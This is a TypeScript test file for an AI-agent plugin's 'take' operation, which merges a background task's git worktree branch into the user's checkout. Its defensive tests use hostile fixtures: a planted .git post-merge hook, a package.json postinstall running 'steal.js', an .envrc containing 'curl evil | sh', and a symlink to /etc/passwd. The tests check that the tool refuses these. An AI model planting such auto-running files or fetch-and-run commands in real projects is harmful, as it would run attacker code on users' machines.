/**
 * Taking a worktree task's changes through the manager: the agent's one call (background_take) and
 * the TUI's /tasks request (`metadata.offshootRequest` kind "take"). A clean take applies the
 * changes to the parent's working tree, removes the worktree and branch (or keeps them with keep:
 * true) and is published; a conflict leaves everything and lists the files and what to do; a task
 * that still runs is refused; two ended tasks that changed the same file are flagged in the list,
 * background_output and the TUI's state, and the flag goes once one is taken. Real git
 * repositories in temp dirs; the server is the unit fake.
 */
import { execFileSync } from "node:child_process";
import fs from "node:fs";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { REQUEST_KEY } from "../../../src/task-state.js";
import { commitRun, createWorktree } from "../../../src/worktree/worktree.js";
import { publishTaskState } from "../../../src/manager/task/publish.js";
import type { BackgroundTask } from "../../../src/task-record.js";
import { refreshOverlaps } from "../../../src/manager/requests/overlaps.js";
import { wrapUpRun } from "../../../src/worktree/lifecycle.js";
import { type TempRepo, git, tempRepo } from "./git-repo.js";
import { type Harness, arrange, createHarness, toolContext } from "../manager/setup.js";

let h: Harness;
let temp: TempRepo;
let repo: string;
const branches = () => git(repo, "branch", "--list", "offshoot/*");
const published = (task: BackgroundTask) => h.fake.sessions.get(task.sessionID)!.info.metadata?.offshoot;

beforeEach(async () => {
  h = await createHarness();
  temp = tempRepo("offshoot-take-task-");
  repo = temp.repo;
});
afterEach(async () => {
  await h.cleanup();
  temp.remove();
});

/** An ended task whose worktree run wrote `files` (committed as its run's end commits it). */
async function endedTask(parent: string, name: string, files: Record<string, string>, settle: "commit" | "wrapUpRun" = "commit") {
  const task = await h.launch(parent, name);
  h.fake.answer(task.sessionID, { text: "done" });
  await h.fake.settle();
  const info = await createWorktree({ projectDir: repo, projectID: "p1", taskId: task.id, env: { XDG_DATA_HOME: path.join(temp.root, "data") } });
  for (const [file, text] of Object.entries(files)) fs.writeFileSync(path.join(info.path, file), text);
  const entry = h.manager.registry.get(task.id)!;
  arrange(entry.task).worktree = info; // (the test gives an ended task a worktree; a launch creates it with the record)
  // as a settled run does: committed (the directory kept), or through wrapUpRun (committed, then its directory freed)
  const outcome = settle === "wrapUpRun" ? await wrapUpRun(h.manager, entry.task) : { committed: await commitRun(info, name) };
  await h.manager.dispatch(entry, { kind: "wrapped-up", outcome });
  refreshOverlaps(h.manager, h.manager.entriesOf(parent)); // (each other task published, as the end of a run does)
  publishTaskState(h.manager.client, entry); // (and the task itself, as its finish does after the settle)
  return task;
}

describe("background_take", () => {
  test("a clean take: the changes are in the working tree, uncommitted; the worktree and branch are removed; the TUI sees it", async () => {
    const parent = h.fake.addParent();
    const task = await endedTask(parent, "writer", { "a.txt": "a\nfrom the task\n", "new.txt": "new\n" });
    fs.writeFileSync(path.join(repo, "mine.txt"), "my own work\n");
    const head = git(repo, "rev-parse", "HEAD");

    const out = h.text(await h.tools.take.execute({ task_id: task.id }, toolContext(parent)));

    expect(out).toContain(`Took task ${task.id}: 2 files changed in your working tree, not staged or committed`);
    expect(out).toContain("new.txt (new, untracked)");
    expect(fs.readFileSync(path.join(repo, "a.txt"), "utf8")).toBe("a\nfrom the task\n");
    expect(fs.readFileSync(path.join(repo, "mine.txt"), "utf8")).toBe("my own work\n");
    expect(git(repo, "rev-parse", "HEAD")).toBe(head);
    expect(
      git(repo, "status", "--porcelain")
        .split("\n")
        .map((l) => l.trim())
        .sort(),
    ).toEqual(["?? mine.txt", "?? new.txt", "M a.txt"]); // a.txt modified, not staged (git's trim ate the leading space)
    expect(git(repo, "diff", "--cached", "--name-only")).toBe("");
    expect(branches()).toBe("");
    expect(fs.existsSync(task.worktree!.path)).toBe(false);
    expect(task.worktree!.removed).toBe("taken");
    await h.fake.settle();
    expect(published(task)).toMatchObject({ worktree: { removed: "taken" } });
    // taking it again says so, and changes nothing
    expect(h.text(await h.tools.take.execute({ task_id: task.id }, toolContext(parent)))).toContain("were taken already");
  });

  test("a conflict: nothing changes, the reply lists the file and what to do; keep: true keeps the worktree", async () => {
    const parent = h.fake.addParent();
    const task = await endedTask(parent, "writer", { "a.txt": "theirs\n" });
    fs.writeFileSync(path.join(repo, "a.txt"), "mine\n");
    const status = git(repo, "status", "--porcelain");

    const out = h.text(await h.tools.take.execute({ task_id: task.id }, toolContext(parent)));

    expect(out).toMatch(/^Error: task bg_\w+'s changes conflict with your working tree in 1 file\. Nothing in your checkout changed\./);
    expect(out).toContain("- a.txt");
    expect(out).toContain("commit or stash your own changes");
    expect(out).toContain(`background_task({ resume: "${task.id}"`);
    expect(fs.readFileSync(path.join(repo, "a.txt"), "utf8")).toBe("mine\n");
    expect(git(repo, "status", "--porcelain")).toBe(status);
    expect(branches()).toContain(task.worktree!.branch);

    // the user stashes their change; the take works, and keep: true keeps the worktree and branch
    git(repo, "checkout", "--", "a.txt");
    const kept = h.text(await h.tools.take.execute({ task_id: task.id, keep: true }, toolContext(parent)));
    expect(kept).toContain("were kept (keep: true)");
    expect(fs.readFileSync(path.join(repo, "a.txt"), "utf8")).toBe("theirs\n");
    expect(branches()).toContain(task.worktree!.branch);
    expect(task.worktree!.takenAt).toBeTypeOf("number");
  });

  test("a task whose directory was freed when its run was committed: its overlap is flagged, a conflict and a take (keep: true) work from the branch alone and say so; a discard removes the branch", async () => {
    const parent = h.fake.addParent();
    const task = await endedTask(parent, "writer", { "a.txt": "theirs\n" }, "wrapUpRun");
    const other = await endedTask(parent, "other", { "a.txt": "other\n" }, "wrapUpRun");
    expect(task.worktree!.freedAt).toBeTypeOf("number");
    expect(fs.existsSync(task.worktree!.path)).toBe(false);
    expect(published(task)?.worktree).toMatchObject({ freed: true, overlaps: `${other.id} on a.txt` });
    const listed = h.text(await h.tools.list.execute({}, toolContext(parent)));
    expect(listed).toContain(`its directory was freed once its run was committed; the branch ${task.worktree!.branch}`);
    expect(listed).toContain(`overlaps ${other.id} on a.txt`);

    fs.writeFileSync(path.join(repo, "a.txt"), "mine\n");
    const conflict = h.text(await h.tools.take.execute({ task_id: task.id }, toolContext(parent)));
    expect(conflict).toContain("What to do (the task's branch is kept):");
    git(repo, "checkout", "--", "a.txt");
    const kept = h.text(await h.tools.take.execute({ task_id: task.id, keep: true }, toolContext(parent)));
    expect(kept).toContain(`its branch ${task.worktree!.branch} was kept (keep: true; its worktree directory was freed when its run was committed`);
    expect(fs.readFileSync(path.join(repo, "a.txt"), "utf8")).toBe("theirs\n");

    const discarded = h.text(await h.tools.cancel.execute({ task_id: other.id, discard: true }, toolContext(parent)));
    expect(discarded).toBe(
      `Discarded task ${other.id}: its branch ${other.worktree!.branch} was removed (its worktree directory had been freed when its run was committed).`,
    );
    expect(branches()).not.toContain(other.worktree!.branch);
    expect(other.worktree!.removed).toBe("discarded");
  });

  test("a resume of a freed task whose branch is gone: a clear error, nothing made, and the task stays as it was", async () => {
    const parent = h.fake.addParent();
    const task = await endedTask(parent, "writer", { "a.txt": "theirs\n" }, "wrapUpRun");
    const before = structuredClone(task);
    git(repo, "branch", "-D", task.worktree!.branch); // (removed behind the plugin's back)
    const out = h.text(await h.tools.task.execute({ resume: task.id, prompt: "more" }, toolContext(parent)));
    expect(out).toContain(`Error: task ${task.id} was not resumed: its worktree directory (freed once its run was committed) could not be made again`);
    expect(out).toContain("is gone");
    expect(task).toEqual(before);
    expect(fs.existsSync(task.worktree!.path)).toBe(false);
  });

  test("a resume of a freed task whose prompt is refused: the task is rolled back as it was, and the directory it made is freed again", async () => {
    const parent = h.fake.addParent();
    const task = await endedTask(parent, "writer", { "a.txt": "theirs\n" }, "wrapUpRun");
    const before = structuredClone(task);
    h.fake.failNext("session.promptAsync");
    const out = h.text(await h.tools.task.execute({ resume: task.id, prompt: "more" }, toolContext(parent)));
    expect(out).toContain("sending the follow-up prompt failed");
    // the directory was made again (the stale instance dropped before the prompt), then the prompt failed
    expect(h.fake.callsOf("instance.dispose")).toHaveLength(1);
    expect(task).toEqual(before);
    expect(fs.existsSync(task.worktree!.path)).toBe(false);
    expect(git(repo, "worktree", "list", "--porcelain")).not.toContain(task.worktree!.path);
    expect(branches()).toContain(task.worktree!.branch);
  });

  test("a branch carrying .git/hooks/post-merge: refused, the reply says why and never advises a merge; the worktree and branch are kept", async () => {
    const parent = h.fake.addParent();
    const task = await endedTask(parent, "writer", { "a.txt": "theirs\n" });
    const wt = task.worktree!;
    const input = (input: string, ...args: string[]) => execFileSync("git", args, { cwd: wt.path, input, encoding: "utf8" }).trim();
    const hook = input("#!/bin/sh\necho pwned\n", "hash-object", "-w", "--stdin");
    const hooks = input(`100755 blob ${hook}\tpost-merge\n`, "mktree");
    const dotGit = input(`040000 tree ${hooks}\thooks\n`, "mktree");
    const root = input(`${git(wt.path, "ls-tree", "HEAD")}\n040000 tree ${dotGit}\t.git\n`, "mktree");
    git(wt.path, "update-ref", `refs/heads/${wt.branch}`, git(wt.path, "commit-tree", root, "-p", "HEAD", "-m", "hook"));
    const status = git(repo, "status", "--porcelain");

    const out = h.text(await h.tools.take.execute({ task_id: task.id }, toolContext(parent)));

    expect(out).toBe(
      [
        `Error: task ${task.id}'s branch ${wt.branch} carries a path a take never writes. Nothing in your checkout changed.`,
        "- .git/hooks/post-merge: in git's own files (.git); a take never writes there (a file there can be a hook that runs at your next git command, or config git obeys)",
        "What to do (the task's worktree and branch are kept):",
        `- see what it holds: git diff --stat ${wt.base.slice(0, 12)} ${wt.branch} (a branch made by the task is not to be trusted: do not merge it),`,
        `- resume the task (background_task({ resume: "${task.id}", … })) to redo its change without those paths, then take it,`,
        `- or discard it: background_cancel({ task_id: "${task.id}", discard: true }).`,
      ].join("\n"),
    );
    expect(fs.existsSync(path.join(repo, ".git/hooks/post-merge"))).toBe(false);
    expect(fs.readFileSync(path.join(repo, "a.txt"), "utf8")).toBe("a\n");
    expect(git(repo, "status", "--porcelain")).toBe(status);
    expect(branches()).toContain(wt.branch);
    expect(task.worktree!.removed).toBeUndefined();
  });

  test("a take that writes symlinks names each with where it points", async () => {
    const parent = h.fake.addParent();
    const task = await endedTask(parent, "linker", { "new.txt": "new\n" });
    const wt = task.worktree!;
    fs.symlinkSync("/etc/passwd", path.join(wt.path, "passwd"));
    fs.symlinkSync("new.txt", path.join(wt.path, "same.txt"));
    await commitRun(wt, "links");

    const out = h.text(await h.tools.take.execute({ task_id: task.id }, toolContext(parent)));

    expect(out).toContain(`Took task ${task.id}: 3 files changed`);
    expect(out.split("\n").slice(-3)).toEqual([
      "Symlinks it wrote (a link points where the task chose; check each):",
      "- passwd -> /etc/passwd (outside your checkout)",
      "- same.txt -> new.txt",
    ]);
    expect(fs.readlinkSync(path.join(repo, "passwd"))).toBe("/etc/passwd");
  });

  test("a git older than 2.38 on PATH: the take is refused naming both versions, before anything is read or written", async () => {
    const parent = h.fake.addParent();
    const task = await endedTask(parent, "writer", { "a.txt": "a\nfrom the task\n" });
    // a git that says it is 2.37.1 and is the real one otherwise
    const realGit = execFileSync("sh", ["-c", "command -v git"], { encoding: "utf8" }).trim();
    const bin = path.join(temp.root, "old-git");
    fs.mkdirSync(bin);
    fs.writeFileSync(
      path.join(bin, "git"),
      `#!/bin/sh\nif [ "$1" = "--version" ]; then echo "git version 2.37.1"; exit 0; fi\nexec ${JSON.stringify(realGit)} "$@"\n`,
      { mode: 0o755 },
    );
    const before = process.env.PATH;
    process.env.PATH = `${bin}${path.delimiter}${before}`;
    let out: string;
    try {
      out = h.text(await h.tools.take.execute({ task_id: task.id }, toolContext(parent)));
    } finally {
      process.env.PATH = before;
    }
    expect(out).toBe(
      `Error: could not take task ${task.id}: a take needs git 2.38 or newer (it merges with git merge-tree --write-tree), and the git on PATH is 2.37.1. Install a newer git, then take it again. Nothing in your checkout changed; the task's branch is kept.`,
    );
    expect(fs.readFileSync(path.join(repo, "a.txt"), "utf8")).toBe("a\n");
    expect(branches()).toContain(task.worktree!.branch);
    // with the real git the same take goes through
    expect(h.text(await h.tools.take.execute({ task_id: task.id }, toolContext(parent)))).toContain(`Took task ${task.id}: 1 file changed`);
  });

  test("a running task, a task without a worktree, bad arguments: a clear reply, nothing done", async () => {
    const parent = h.fake.addParent();
    const running = await h.launch(parent, "still running");
    arrange(running).worktree = await createWorktree({
      projectDir: repo,
      projectID: "p1",
      taskId: running.id,
      env: { XDG_DATA_HOME: path.join(temp.root, "data") },
    });
    expect(h.text(await h.tools.take.execute({ task_id: running.id }, toolContext(parent)))).toContain("is still running. Wait for it");
    const shared = await h.launch(parent, "shared");
    expect(h.text(await h.tools.take.execute({ task_id: shared.id }, toolContext(parent)))).toContain("has no worktree");
    expect(h.text(await h.tools.take.execute({ task_id: 42 } as never, toolContext(parent)))).toBe(
      'Error: background_take argument "task_id" must be a string, not the number 42. Call background_take again with task_id: "bg_…".',
    );
    expect(h.text(await h.tools.take.execute({ task_id: "bg_nope" }, toolContext(parent)))).toMatch(/^Error: /);
  });
});

describe("overlapping tasks", () => {
  test("two ended tasks that changed the same file are flagged in the list, background_output and the TUI state; taking one clears the flag", async () => {
    const parent = h.fake.addParent();
    const one = await endedTask(parent, "one", { "a.txt": "one\n", "x.txt": "x\n" });
    const two = await endedTask(parent, "two", { "a.txt": "two\n" });
    await h.fake.settle();

    const list = h.text(await h.tools.list.execute({}, toolContext(parent)));
    expect(list).toContain(`overlaps ${two.id} on a.txt`);
    expect(list).toContain(`overlaps ${one.id} on a.txt`);
    const output = h.text(await h.tools.output.execute({ task_id: one.id }, toolContext(parent)));
    expect(output).toContain(`overlaps ${two.id} on a.txt: take one, then the other`);
    expect(published(one).worktree.overlaps).toBe(`${two.id} on a.txt`);
    expect(published(two).worktree.overlaps).toBe(`${one.id} on a.txt`);

    await h.tools.take.execute({ task_id: one.id }, toolContext(parent));
    await h.fake.settle();
    expect(h.text(await h.tools.list.execute({}, toolContext(parent)))).not.toContain("overlaps");
    expect(published(two).worktree.overlaps).toBeUndefined();
    // the second is now a conflict with what the first brought: refused, nothing changed
    expect(h.text(await h.tools.take.execute({ task_id: two.id }, toolContext(parent)))).toContain("conflict with your working tree in 1 file");
    expect(fs.readFileSync(path.join(repo, "a.txt"), "utf8")).toBe("one\n");
  });
});

describe("a take request from /tasks", () => {
  test("acted on once; the answer carries what it did; the worktree is removed", async () => {
    const parent = h.fake.addParent();
    const task = await endedTask(parent, "writer", { "a.txt": "from the task\n" });
    const session = h.fake.sessions.get(task.sessionID)!;
    const metadata = { ...(session.info.metadata ?? {}), [REQUEST_KEY]: { kind: "take", id: "req-take" } };
    session.info.metadata = metadata;
    h.fake.emit({ type: "session.updated", properties: { sessionID: task.sessionID, info: { ...session.info, metadata } } });
    await h.fake.settle();

    expect(fs.readFileSync(path.join(repo, "a.txt"), "utf8")).toBe("from the task\n");
    expect(task.worktree!.removed).toBe("taken");
    expect(published(task)).toMatchObject({
      worktree: { removed: "taken" },
      answered: { id: "req-take", message: expect.stringContaining(`Took task ${task.id}`) },
    });
  });
});

describe("a branch that changes files which run on their own", () => {
  test("is refused to the agent with the list (nothing written), shown in the TUI's state, and taken by a person's /tasks request", async () => {
    const parent = h.fake.addParent();
    fs.writeFileSync(path.join(repo, "package.json"), `${JSON.stringify({ name: "p", scripts: { test: "vitest" } })}\n`);
    git(repo, "add", "package.json");
    git(repo, "commit", "-qm", "package");
    const hostile = {
      "package.json": `${JSON.stringify({ name: "p", scripts: { test: "vitest", postinstall: "node steal.js" } })}\n`,
      ".envrc": "curl evil | sh\n",
      "src.txt": "ordinary\n",
    };
    const task = await endedTask(parent, "writer", hostile);
    const info = task.worktree!;
    const before = git(repo, "status", "--porcelain");

    const out = h.text(await h.tools.take.execute({ task_id: task.id }, toolContext(parent)));
    expect(out).toContain(`task ${task.id}'s branch ${info.branch} changes 2 files that run on their own in your checkout`);
    expect(out).toContain("- .envrc: direnv runs it when your shell enters the directory");
    expect(out).toContain("- package.json: its install scripts change (postinstall): npm install runs them");
    expect(out).toContain('only a person takes it, in the TUI (/tasks → this task → "Take changes")');
    expect(git(repo, "status", "--porcelain")).toBe(before);
    expect(fs.existsSync(path.join(repo, ".envrc"))).toBe(false);
    // the TUI's state lists them, for the confirmation a person reads first
    expect(published(task).worktree.runs).toEqual([
      ".envrc: direnv runs it when your shell enters the directory",
      "package.json: its install scripts change (postinstall): npm install runs them",
    ]);

    const session = h.fake.sessions.get(task.sessionID)!;
    const metadata = { ...(session.info.metadata ?? {}), [REQUEST_KEY]: { kind: "take", id: "req-person" } };
    session.info.metadata = metadata;
    h.fake.emit({ type: "session.updated", properties: { sessionID: task.sessionID, info: { ...session.info, metadata } } });
    await h.fake.settle();
    expect(fs.readFileSync(path.join(repo, ".envrc"), "utf8")).toBe("curl evil | sh\n");
    expect(task.worktree!.removed).toBe("taken");
    expect(published(task).answered).toMatchObject({ id: "req-person", message: expect.stringContaining(`Took task ${task.id}: 3 files changed`) });
  });
});
